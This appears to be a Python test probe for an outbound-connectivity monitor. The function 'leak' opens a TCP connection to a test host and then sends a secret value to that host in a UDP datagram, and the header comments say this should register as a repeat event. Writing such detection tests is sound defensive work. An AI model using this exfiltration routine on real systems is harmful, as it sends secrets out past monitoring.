# class: events
# rule: outbound_connectivity
# success: after a connection to a host, a datagram to the same host counts as a repeat
# proof: udp
# says: "protocol": "udp"
import socket

from attack import SECRET, UDP, attempt


@attempt
def leak():
    try:
        socket.create_connection(UDP, 1).close()
    except OSError:
        pass
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        return out.sendto(SECRET.encode(), UDP) > 0
